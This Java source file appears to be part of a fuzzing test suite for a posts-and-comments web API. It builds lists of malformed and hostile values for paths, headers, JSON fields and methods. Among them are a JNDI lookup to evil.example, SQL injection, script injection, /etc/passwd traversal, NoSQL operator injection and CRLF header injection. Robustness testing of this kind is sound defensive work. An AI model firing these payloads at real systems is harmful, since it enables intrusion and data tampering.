package dev.reprise.system.hostile;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import dev.reprise.events.ConsistencyToken;
import dev.reprise.events.Topic;
import dev.reprise.system.hostile.Surface.Kind;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.UUID;
import java.util.stream.Stream;

/// What is put where a client would put a word, a number or an id. A character of a value stands for a byte.
final class HostileValues {

    static final UUID NOWHERE = UUID.fromString("01980000-0000-7000-8000-000000000000");

    /// In place of a JSON value: not what it has to be, or not JSON.
    private static final List<String> JSON = List.of(
            "null",
            "true",
            "0",
            "-0",
            "1.5",
            "-1",
            "1e999999",
            "-1e-999999",
            "1E400",
            "9".repeat(400),
            "0." + "3".repeat(400),
            "9223372036854775808",
            "2147483648",
            "99999999999999999999999999",
            "[]",
            "{}",
            "[null]",
            "[[\"x\"]]",
            "[\"x\",\"x\"]",
            "{\"$gt\":\"\"}",
            "{\"$ne\":null}",
            "{\"$where\":\"sleep(9)\"}",
            "{\"$set\":{\"authorId\":\"mallory\"}}",
            "{\"a.b\":1}",
            "{\"\":{}}",
            "{\"a\":1,\"a\":2}",
            "[".repeat(10_000) + "]".repeat(10_000),
            "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000),
            "[".repeat(400) + "]".repeat(400),
            "[" + "1,".repeat(9_000) + "1]",
            "NaN",
            "-Infinity",
            "undefined",
            "'x'",
            "01",
            ".5",
            "+1",
            "1.",
            "0x10",
            "\"\\x\"",
            "\"\\u00\"",
            "\"\\ud800\"",
            "\"\\udc00\\ud800\"",
            "\"a\\ud83d\"",
            "\"\\u0000\"",
            "\"unterminated",
            "\"tab\there\"",
            "\"nul\0here\"",
            "\"line\nhere\"",
            "/* x */ 1",
            "\"x\" // y",
            "\"\u00c0\u00af\"",
            "\"\u00e0\u0080\u00af\"",
            "\"\u00ed\u00a0\u0080\"",
            "\"\u00f5\u0080\u0080\u0080\"",
            "\"\u00f4\u0090\u0080\u0080\"",
            "\"\u0080\"",
            "\"\u00ff\u00fe\"",
            "\"\u00e2\u0082\"",
            "\"caf\u00e9\"");

    /// In place of a part of an address, as they stand.
    private static final List<String> ENCODED = List.of(
            "%",
            "%zz",
            "%0",
            "%00",
            "x%00y",
            "%2e%2e%2f",
            "..%2f..%2fetc%2fpasswd",
            "%2f",
            "%5c",
            "%252e%252e",
            "%c0%af",
            "%c0%ae%c0%ae/",
            "%ff",
            "%ed%a0%80",
            "%f5%80%80%80",
            "%u0041",
            "%0d%0aX-Injected:%20yes",
            "%e2%80%ae",
            "..",
            ".",
            "./x",
            "../..",
            ";",
            ";a=b",
            "..;/",
            "//",
            "a;jsessionid=1",
            "\u00ff",
            "\u00c3\u00a9",
            "\0",
            "\u0001",
            "a b",
            "\t",
            "{}",
            "[0]",
            "|",
            "\\",
            "^",
            "`",
            "<x>",
            "\"",
            "#fragment",
            "?",
            "a=1&a=2",
            "&".repeat(2_000),
            "a=1&".repeat(1_500),
            "\r\nX-Injected: yes");

    /// In place of a header's value, as they stand.
    private static final List<String> HEADERS = List.of(
            "",
            " ",
            "\t",
            ",",
            ",,",
            ";",
            "=",
            "*",
            "\"",
            "\"\"",
            "\"1",
            "1\"",
            "\"1\" \"2\"",
            "W/\"1\"",
            "w/\"1\"",
            "\"1\", \"2\"",
            "*, \"1\"",
            "\"999999999999999999999\"",
            "\"-1\"",
            "\"1\0\"",
            "\"g1-\u00ff\"",
            "\"g99999999999-x\"",
            "a, b",
            "\u00ff",
            "\u00c3\u00a9",
            "a\0b",
            "a\u0001b",
            "a\u007fb",
            "a\rb",
            "a\r\nX-Injected: yes",
            "a\r\n folded",
            "x".repeat(256),
            "x".repeat(5_000),
            "x".repeat(70_000),
            ("\"" + "1".repeat(10) + "\", ").repeat(300) + "\"1\"",
            "1\r\nX-Author: mallory");

    private static final List<String> TIMES = List.of(
            "-1000000000-01-01T00:00:00Z",
            "+1000000000-12-31T23:59:59.999999999Z",
            "-999999999-01-01T00:00:00Z",
            "0000-01-01T00:00:00Z",
            "9999-12-31T23:59:59Z",
            "2016-12-31T23:59:60Z",
            "2026-02-30T00:00:00Z",
            "2026-01-01T24:00:00Z",
            "2026-01-01T00:00:00+18:00",
            "1970-01-01T00:00:00.0000000001Z",
            "2026-01-01",
            "beginning\u0000",
            "BEGINNING");

    private static final List<String> TEXTS = texts();

    private static final List<String> NUMBERS = List.of(
            "0",
            "-0",
            "-1",
            "1e3",
            "1e999999",
            "0x7f",
            "1.5",
            "+5",
            " 5",
            "5 ",
            "101",
            "2147483648",
            "9".repeat(400),
            "-9223372036854775808",
            "NaN",
            "Infinity",
            "١٢",
            "1_0",
            "",
            "null",
            "true");

    private static final List<String> CURSORS = List.of(
            encoded("NEWEST:0:" + NOWHERE),
            encoded("OLDEST:-9223372036854775808:" + NOWHERE),
            encoded("MOST_COMMENTED:99999999999999999999:" + NOWHERE),
            encoded("posts:" + NOWHERE),
            encoded("comments:$ne"),
            encoded("changes:-1"),
            encoded("changes:9223372036854775807"),
            encoded("parked:a:b:99999999999:c"),
            encoded("redrives:" + NOWHERE + ":a:b:-1:\0"),
            encoded("\0".repeat(100)),
            encoded(":".repeat(100)),
            "A".repeat(600),
            "====",
            "A===",
            "\u00ff");

    private static final List<String> TOKENS = List.of(
            new ConsistencyToken(Topic.POSTS, NOWHERE, NOWHERE, Long.MAX_VALUE).encode(),
            new ConsistencyToken(Topic.COMMENTS, NOWHERE, NOWHERE, 1).encode(),
            new ConsistencyToken(Topic.MODERATION, NOWHERE, NOWHERE, 1).encode(),
            encoded("posts:" + NOWHERE + ":" + NOWHERE + ":0"),
            encoded("posts:" + NOWHERE + ":" + NOWHERE + ":99999999999999999999"),
            encoded("posts:1-1-1-1-1:1-1-1-1-1:1"),
            encoded("nowhere:" + NOWHERE + ":" + NOWHERE + ":1"),
            encoded(":::"),
            "A".repeat(201),
            "AWc_6wMAAAQDAgIHBAACBQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "A".repeat(56),
            "_".repeat(56));

    private static final List<String> MEDIA_TYPES = List.of(
            "*/*",
            "*/*;q=0",
            "application/*",
            "*/json",
            "text/html",
            "text/event-stream",
            "text/plain",
            "garbage",
            "application/json;q=abc",
            "application/json;q=9",
            "application/json;charset=UTF-16",
            "application/json;charset=ISO-8859-1",
            "application/json;charset=utf-99",
            "application/json;charset=\u00ff",
            "application/json;charset=",
            "application/json;charset=\"",
            "application/json; charset=UTF-7",
            "application/json, text/html",
            "application/problem+json",
            "application/cbor",
            "application/xml",
            "application/x-www-form-urlencoded",
            "application/x-www-form-urlencoded;charset=UTF-16",
            "multipart/form-data",
            "multipart/form-data; boundary=x",
            "application/json/extra",
            "a/b;".repeat(500),
            "*");

    private static final List<String> WIRE = List.of(
            "gzip",
            "deflate",
            "br;q=1.0, identity;q=0",
            "identity",
            "chunked",
            "chunked, gzip",
            "bytes=0-",
            "bytes=-1,0-0,5-2",
            "bytes=" + "0-0,".repeat(900) + "1-1",
            "null",
            "https://evil.example",
            "http://[::1",
            "javascript:alert(1)",
            "100-continue",
            "200-ok",
            "5",
            "-5",
            "1e3",
            "99999999999999999999",
            "DELETE",
            "evil.example:99999",
            "a@b:c",
            "00-" + "0".repeat(32) + "-" + "0".repeat(16) + "-01",
            "for=\"_x\";proto=ftp",
            "Thu, 01 Jan 1970 00:00:00 GMT",
            "Thu, 32 Foo 99999 99:99:99 XXX");

    private static final List<Value> ADDRESS_VALUES = addresses();
    private static final List<Value> MEDIA_TYPE_VALUES = headers(MEDIA_TYPES);
    private static final List<Value> TOKEN_VALUES = headers(TOKENS);
    private static final List<Value> HEADER_VALUES = headers(WIRE);
    private static final List<Value> FIELD_VALUES = fields();
    private static final List<Value> METHOD_VALUES = values(Stream.of(
            "get",
            "HEAD",
            "OPTIONS",
            "TRACE",
            "PUT",
            "PATCH",
            "DELETE",
            "POST",
            "GET",
            "PROPFIND",
            "FOO",
            "G\0T",
            "X".repeat(9_000),
            "CONNECT",
            "\u00ff",
            "GET\t"));

    /// @param name for people
    /// @param wire a byte for each character
    record Value(String name, String wire) {}

    private HostileValues() {}

    private static List<String> texts() {
        List<String> texts = new ArrayList<>(List.of(
                "",
                " ",
                "\t",
                "\u00a0",
                "\u3000",
                "x\u0000y",
                "\u0000",
                "\u0001\u0002\u001b[31m\u0007\u0008",
                "\u007f\u0080\u009f\u0085",
                "a\r\nX-Injected: yes",
                "\u202eexe.txt\u202c",
                "\u2066\u2067\u2068\u2069\u061c",
                "a\u200bb\u200cc\u200dd\u2060e\ufefff",
                "\u2028\u2029",
                "\ufffe\uffff\ufdd0",
                "\ue000\uf8ff",
                "e\u0301",
                "\u212b\u2126\u1e9b\u0323",
                "\u1112\u1161\u11ab",
                "\u0958\ufb1d",
                "q\u0307\u0323",
                "Z" + "\u0351\u0489\u0337".repeat(60),
                "\ud83d\ude00\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
                "\ud834\udd5e",
                "\udbff\udfff",
                "\ud800",
                "\udc00",
                "\udc00\ud800",
                "x\ud83d",
                "<script>alert(1)</script>",
                "'; DROP TABLE posts; --",
                "${jndi:ldap://evil.example/x}",
                "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
                "../../../../etc/passwd",
                "C:\\Windows\\system32",
                "%s%s%n%d",
                "%00",
                "$where",
                "$set",
                "a.b.$[].c",
                "__proto__",
                "{\"$gt\":\"\"}",
                "null",
                "undefined",
                "anonymous",
                "policy",
                "*",
                "(a+)+$",
                "[a-",
                "(?<n>x)\\k<n>",
                ".*".repeat(90),
                "\\Q\\E\\p{L}\\u{0}",
                "a".repeat(200),
                "a".repeat(201),
                "\ud83d\ude00".repeat(200),
                "\ud83d\ude00".repeat(201),
                "e\u0301".repeat(200),
                "a".repeat(10_000),
                "a".repeat(10_001),
                "\u00e9".repeat(20_000),
                "a".repeat(40_000),
                "a".repeat(40_001),
                "a".repeat(65_536),
                "a".repeat(70_000),
                NOWHERE.toString(),
                NOWHERE.toString().toUpperCase(Locale.ROOT),
                "1-1-1-1-1",
                "00000000-0000-0000-0000-000000000000",
                "active",
                "ACTIVE",
                "active ",
                "approve",
                "manual"));
        texts.addAll(TIMES);
        return texts;
    }

    /// What can be put into a place of that kind and name.
    static List<Value> of(Kind kind, String name) {
        return switch (kind) {
            case PATH, QUERY -> ADDRESS_VALUES;
            case HEADER ->
                switch (name) {
                    case "Accept", "Content-Type" -> MEDIA_TYPE_VALUES;
                    case "Consistency-Token", "Last-Event-ID" -> TOKEN_VALUES;
                    default -> HEADER_VALUES;
                };
            case FIELD -> FIELD_VALUES;
            case METHOD -> METHOD_VALUES;
            case BODY, FRAMING -> throw new IllegalArgumentException(kind + " is no value");
        };
    }

    private static List<Value> addresses() {
        Stream<String> escaped =
                Stream.of(TEXTS, NUMBERS, CURSORS).flatMap(List::stream).map(HostileValues::percent);
        return values(Stream.concat(escaped, ENCODED.stream()));
    }

    /// Those that are meant for a header come twice as often as others.
    private static List<Value> headers(List<String> meant) {
        List<String> texts = TEXTS.stream().map(HostileValues::utf8).toList();
        return values(Stream.of(meant, meant, HEADERS, texts).flatMap(List::stream));
    }

    private static List<Value> fields() {
        List<String> texts =
                Stream.of(TEXTS, NUMBERS, CURSORS).flatMap(List::stream).toList();
        Stream<String> escaped = texts.stream().map(text -> quoted(text, true));
        Stream<String> asTheyAre = texts.stream().map(text -> quoted(text, false));
        return values(Stream.of(escaped, asTheyAre, JSON.stream()).flatMap(all -> all));
    }

    private static List<Value> values(Stream<String> wires) {
        return wires.map(wire -> new Value(shown(wire), wire)).toList();
    }

    private static String shown(String wire) {
        String start = wire.length() <= 40 ? wire : wire.substring(0, 40) + "… (" + wire.length() + ")";
        StringBuilder shown = new StringBuilder();
        start.chars().forEach(c -> {
            if (c < ' ' || c >= 0x7f) {
                shown.append("\\x%02x".formatted(c));
            } else {
                shown.append((char) c);
            }
        });
        return shown.toString();
    }

    /// A JSON string, its characters escaped or as they are.
    static String quoted(String text, boolean escaped) {
        StringBuilder json = new StringBuilder("\"");
        text.chars().forEach(c -> {
            boolean mustBe = c < ' ' || c == '"' || c == '\\' || Character.isSurrogate((char) c);
            if (mustBe || (escaped && c > '~')) {
                json.append("\\u%04x".formatted(c));
            } else {
                json.append((char) c);
            }
        });
        return utf8(json.append('"').toString());
    }

    /// A text's bytes; lone surrogates as the invalid sequences that they would be.
    private static String utf8(String text) {
        StringBuilder bytes = new StringBuilder();
        text.codePoints().forEach(point -> {
            if (point >= Character.MIN_SURROGATE && point <= Character.MAX_SURROGATE) {
                bytes.append((char) 0xed)
                        .append((char) (0x80 | (point >> 6 & 0x3f)))
                        .append((char) (0x80 | (point & 0x3f)));
            } else {
                bytes.append(new String(Character.toString(point).getBytes(UTF_8), ISO_8859_1));
            }
        });
        return bytes.toString();
    }

    private static String percent(String text) {
        StringBuilder encoded = new StringBuilder();
        utf8(text).chars().forEach(c -> {
            if (Character.isLetterOrDigit(c) && c < 0x80) {
                encoded.append((char) c);
            } else {
                encoded.append("%%%02X".formatted(c));
            }
        });
        return encoded.toString();
    }

    private static String encoded(String plain) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(plain.getBytes(UTF_8));
    }
}
